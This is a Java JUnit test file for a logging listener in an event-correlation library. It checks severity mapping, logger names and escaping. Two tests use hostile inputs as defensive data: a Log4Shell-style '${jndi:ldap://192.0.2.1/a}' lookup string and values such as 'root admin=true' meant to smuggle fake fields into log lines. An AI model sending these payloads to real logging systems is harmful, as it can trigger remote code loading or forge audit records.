package io.correlator.listeners;

import static org.assertj.core.api.Assertions.assertThat;

import io.correlator.api.EmittedEvent;
import io.correlator.api.Event;
import io.correlator.api.Fields;
import io.correlator.api.Printable;
import io.correlator.api.Severity;
import io.correlator.api.config.Config;
import io.correlator.api.listener.Interest;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.slf4j.Marker;
import org.slf4j.event.Level;
import org.slf4j.helpers.LegacyAbstractLogger;
import org.slf4j.helpers.MessageFormatter;

class LoggingListenerTest {
  private final List<Line> lines = new ArrayList<>();
  private Level enabled = Level.TRACE;
  private final LoggingListener listener =
      new LoggingListener("events", Interest.everything(), Recorder::new);

  @ParameterizedTest
  @CsvSource({
    "EMERGENCY,ERROR",
    "ALERT,ERROR",
    "CRITICAL,ERROR",
    "ERROR,ERROR",
    "WARNING,WARN",
    "NOTICE,INFO",
    "INFO,INFO",
    "DEBUG,DEBUG"
  })
  void mapsEachSeverityToALevel(Severity severity, Level level) {
    listener.accept(Samples.emitted(Event.builder("x").severity(severity)));
    assertThat(lines).extracting(Line::level).containsExactly(level);
  }

  @Test
  void writesSummaryAndFieldsOnOneLine() {
    accept(
        Event.error("Tries")
            .summary("198.51.100.7: 5 failed logins")
            .field("address", "198.51.100.7")
            .field("count", 5));
    assertThat(text())
        .isEqualTo("sshd Tries 198.51.100.7: 5 failed logins address=198.51.100.7 count=5");
  }

  @Test
  void eachModuleHasALoggerOfItsOwn() {
    listener.accept(EmittedEvent.causedByTime(Samples.TIME, "a", event("x"), 0));
    listener.accept(EmittedEvent.causedByTime(Samples.TIME, "b", event("x"), 0));
    assertThat(lines).extracting(Line::logger).containsExactly("events.a", "events.b");
  }

  @Test
  void namesItsLoggersAsConfigured() {
    listener.configure(Config.of(Map.of("logger", "app"))).accept(Samples.summary("x"));
    assertThat(lines).extracting(Line::logger).containsExactly("app.sshd");
  }

  @Test
  void writesNothingThatIsNotEnabled() {
    enabled = Level.ERROR;
    listener.accept(Samples.emitted(Event.warning("x")));
    assertThat(lines).isEmpty();
  }

  @Test
  void bracesInTheTextAreJustText() {
    listener.accept(Samples.summary("{} {} %s ${jndi:ldap://192.0.2.1/a}"));
    assertThat(text()).endsWith("{} {} %s ${jndi:ldap://192.0.2.1/a}");
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      value = {
        "root|root",
        "root admin=true|\"root admin=true\"",
        "a=b|\"a=b\"",
        "say \"hi\"|\"say \\\"hi\\\"\"",
        "DOMAIN\\user|DOMAIN\\user"
      })
  void aValueCannotPassForMoreThanOne(String value, String expected) {
    accept(Event.error("x").field("user", value));
    assertThat(text()).isEqualTo("sshd x x user=" + expected);
  }

  @Test
  void anEmptyValueIsAPairOfQuotes() {
    accept(Event.error("x").field("user", ""));
    assertThat(text()).isEqualTo("sshd x x user=\"\"");
  }

  @Test
  void aSummaryCannotPassForFields() {
    accept(Event.error("x").summary("bob address=192.0.2.1").field("address", "198.51.100.7"));
    assertThat(text()).isEqualTo("sshd x \"bob address=192.0.2.1\" address=198.51.100.7");
  }

  @Test
  void listsAndNestedFieldsAreJson() {
    accept(
        Event.error("x")
            .field("users", List.of("a b", "c"))
            .field("geo", Fields.of("country", "NZ")));
    assertThat(text()).isEqualTo("sshd x x users=[\"a b\",\"c\"] geo={\"country\":\"NZ\"}");
  }

  @Test
  void hostileTextStaysOneLineAndSteersNothing() {
    Event event =
        Event.error(Samples.HOSTILE)
            .summary(Samples.HOSTILE)
            .field(Samples.HOSTILE, Samples.HOSTILE)
            .build(Samples.TIME);
    listener.accept(EmittedEvent.causedByTime(Samples.TIME, Samples.HOSTILE, event, 0));
    assertThat(text().codePoints()).allMatch(Printable::isShown);
  }

  private void accept(Event.Builder event) {
    listener.accept(Samples.emitted(event));
  }

  private static Event event(String type) {
    return Event.error(type).build(Samples.TIME);
  }

  private String text() {
    assertThat(lines).hasSize(1);
    return lines.get(0).text();
  }

  private record Line(String logger, Level level, String text) {}

  /** A logging framework that remembers. */
  private final class Recorder extends LegacyAbstractLogger {
    private static final long serialVersionUID = 1L;

    Recorder(String name) {
      this.name = name;
    }

    @Override
    protected String getFullyQualifiedCallerName() {
      return "";
    }

    @Override
    protected void handleNormalizedLoggingCall(
        Level level,
        @Nullable Marker marker,
        String pattern,
        Object @Nullable [] arguments,
        @Nullable Throwable throwable) {
      lines.add(new Line(name, level, MessageFormatter.basicArrayFormat(pattern, arguments)));
    }

    @Override
    public boolean isTraceEnabled() {
      return isEnabled(Level.TRACE);
    }

    @Override
    public boolean isDebugEnabled() {
      return isEnabled(Level.DEBUG);
    }

    @Override
    public boolean isInfoEnabled() {
      return isEnabled(Level.INFO);
    }

    @Override
    public boolean isWarnEnabled() {
      return isEnabled(Level.WARN);
    }

    @Override
    public boolean isErrorEnabled() {
      return isEnabled(Level.ERROR);
    }

    private boolean isEnabled(Level level) {
      return level.toInt() >= enabled.toInt();
    }
  }
}
